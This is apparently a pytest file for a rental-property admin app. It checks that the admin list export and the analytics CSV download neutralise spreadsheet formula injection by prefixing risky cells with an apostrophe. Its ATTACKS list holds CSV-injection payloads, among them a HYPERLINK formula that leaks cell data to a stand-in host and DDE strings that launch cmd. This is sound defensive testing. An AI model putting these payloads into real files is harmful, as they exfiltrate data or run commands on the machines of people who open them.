"""CSV exports never hand a spreadsheet a formula: names and titles that start like one
(`=`, `+`, `-`, `@`, tab, CR) arrive as text, in sqladmin's list export and in the
analytics CSV (the same `render` the bots send)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from models import User
from models.enums import Role
from services.csv_cells import safe_cell
from tests.admin.support import almaty_today, booked_stay, person_with_password, signed_in
from tests.support.factories import make_owner, make_property

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(body: bytes, delimiter: str = ",") -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(attack, "'" + attack) for attack in ATTACKS],
        ("-5", "-5"),
        ("42,9", "42,9"),
        ("+77011234567", "+77011234567"),
        ("Квартира у парка", "Квартира у парка"),
        (12, 12),
    ],
)
def test_cells_that_would_run_get_a_leading_apostrophe(value, written):
    assert safe_cell(value) == written


async def test_the_admins_list_export_writes_titles_as_text(stack):
    owner = await person_with_password(stack)
    for title in ATTACKS:
        await make_property(stack, owner, title=title)
    async with signed_in(stack, owner) as admin:
        export = await admin.get("/admin/property/export/csv")
        json_export = await admin.get("/admin/property/export/json")
    assert export.status_code == 200, export.text
    written = cells(export.content)
    for title in ATTACKS:
        assert "'" + title in written, title
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert json_export.status_code == 404  # one export format, the safe one


async def test_the_analytics_csv_writes_names_as_text(stack):
    owner = await person_with_password(stack)
    async with stack.sessions() as session:
        row = await session.get(User, owner.id)
        assert row is not None
        row.name = ATTACKS[0]  # a realtor names themself
        await session.commit()
    guest, _ = await make_owner(stack, role=Role.GUEST)
    prop = await make_property(stack, owner)
    await booked_stay(stack, prop, guest, almaty_today() - timedelta(days=5), 2)
    async with signed_in(stack, owner) as admin:
        export = await admin.get("/admin/analytics?period=30d&download=csv&mode=realtors")
    assert export.status_code == 200
    written = cells(export.content, delimiter=";")
    assert "'" + ATTACKS[0] in written
    assert ATTACKS[0] not in written
